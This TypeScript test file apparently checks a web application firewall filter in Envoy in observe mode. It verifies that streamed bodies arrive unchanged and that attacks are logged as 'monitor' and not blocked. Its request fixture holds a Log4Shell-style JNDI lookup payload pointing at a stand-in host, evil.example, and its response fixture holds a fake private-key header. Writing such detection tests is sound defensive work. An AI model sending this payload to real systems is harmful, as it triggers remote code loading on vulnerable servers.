// Mode observe against no filter at all: bodies that are sent piece by piece arrive in the same pieces, each before the next is sent, both
// ways and in every body mode. And what is observed is reported.
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { after, before, describe, test } from "node:test";
import { configurationByMode, MODES } from "./body-routes.ts";
import { openExchange, type Protocol } from "./open-exchange.ts";
import { type Bootstrap, ProtectedApi, withTrailers } from "./protected-api.ts";

const LEAK = "-----BEGIN RSA PRIVATE KEY-----";
const LOOKUP = "${jndi:ldap://evil.example/a}";
/** Of different lengths, so that pieces are told apart; the attacks are in the middle. */
const REQUEST = ['{"rows":[', '"lamp",', `"${LOOKUP}"`, ',"garden table"', "]}"];
const RESPONSE = ['{"keys":[', `"${LEAK}"`, ',"two lamps"', "]", "}"];

/** What went on, in the order in which it did. */
type Step = string;

describe("observing, Envoy 1.40.0", () => {
  let observed: ProtectedApi;
  let bare: ProtectedApi;
  before(async () => {
    const configuration = configurationByMode({ mode: "observe" });
    observed = await ProtectedApi.start({ version: "1.40.0", configuration, edit: withTrailers });
    bare = await ProtectedApi.start({ version: "1.40.0", edit: withoutFilter });
  });
  after(async () => {
    await observed?.stop();
    await bare?.stop();
  });

  for (const mode of MODES) {
    for (const protocol of ["HTTP/1.1", "HTTP/2"] as const) {
      test(`${mode}, ${protocol}: the same pieces in the same order as without the filter, and an event`, async () => {
        const with_ = await converse(observed, protocol, mode);
        const without = await converse(bare, protocol, mode);
        assert.deepEqual(with_.steps, without.steps);
        const { access, event } = await observed.traffic.of(with_.path);
        assert.equal(access["status"], 200);
        if (mode === "NONE") {
          assert.equal(event, undefined);
          return;
        }
        assert.deepEqual(
          [event?.action, event?.would_block, event?.["mode"], event?.rules],
          ["monitor", true, "observe", ["wg-jndi-001", "wg-resp-004"]],
        );
      });

      test(`${mode}, ${protocol}: the response's head arrives before the request has ended`, async () => {
        const id = randomUUID();
        observed.upstream.serve(id, (exchange) => {
          exchange.head(200, { "content-type": "application/json" });
        });
        const exchange = await openExchange(protocol, observed.port, {
          ...{ method: "POST", path: `/${mode}/${id}` },
          headers: { "x-test-id": id, "content-type": "application/json" },
        });
        const { response } = exchange;
        await response.changes.until("the response's head", () =>
          response.status === 200 ? true : undefined,
        );
        exchange.abort();
      });
    }
  }

  test("no field of an event says that an observed attack was blocked", () => {
    assert.ok(observed.events().length > 0);
    for (const event of observed.events()) {
      assert.equal(event.action, "monitor");
      assert.doesNotMatch(JSON.stringify({ ...event, triggers: [] }), /blocked/i);
    }
    const told = observed.accessLog.map((entry) => [entry["status"], entry["wardgate_action"]].join(" "));
    assert.deepEqual([...new Set(told)].sort(), ["200 ", "200 monitor"]);
  });

  test("after all of this → no VM failed, nothing was logged as an error", () => observed.assertHealthy());
});

/** Sends each piece only when the one before has arrived, first the request's, then the response's. */
async function converse(
  api: ProtectedApi,
  protocol: Protocol,
  mode: string,
): Promise<{ path: string; steps: Step[] }> {
  const id = randomUUID();
  const path = `/${mode}/${id}`;
  const steps: Step[] = [];
  const type = { "content-type": "application/json" };
  api.upstream.serve(id, async (exchange) => {
    const { content } = exchange.request;
    steps.push("request head at the upstream");
    await exchange.until("the request's end", (request) => request.complete);
    steps.push(`request in pieces of ${content.arrivals.map(({ size }) => size).join()}`);
    exchange.head(200, type);
    let sent = 0;
    for (const piece of RESPONSE) {
      await exchange.send(Buffer.from(piece));
      sent += piece.length;
      await client.response.changes.until("a piece of the response", () =>
        client.response.content.length >= sent ? true : undefined,
      );
      steps.push(`${sent} bytes of the response at the client`);
    }
    exchange.end();
  });
  const client = await openExchange(protocol, api.port, {
    ...{ method: "POST", path, headers: { "x-test-id": id, ...type } },
  });
  await api.upstream.until(id, "the request's head", () => true);
  let sent = 0;
  for (const piece of REQUEST) {
    await client.send(Buffer.from(piece));
    sent += piece.length;
    await api.upstream.until(id, `${sent} bytes`, (request) => request.content.length >= sent);
    steps.push(`${sent} bytes of the request at the upstream`);
  }
  client.end();
  const { response } = client;
  await response.changes.until("the end", () => response.ending);
  steps.push(
    `response ${response.ending}, in pieces of ${response.content.arrivals.map(({ size }) => size).join()}`,
  );
  client.abort();
  return { path, steps };
}

function withoutFilter(bootstrap: Bootstrap): void {
  withTrailers(bootstrap);
  const [listener] = bootstrap.static_resources.listeners;
  listener.filter_chains[0].filters[0].typed_config.http_filters.shift();
}
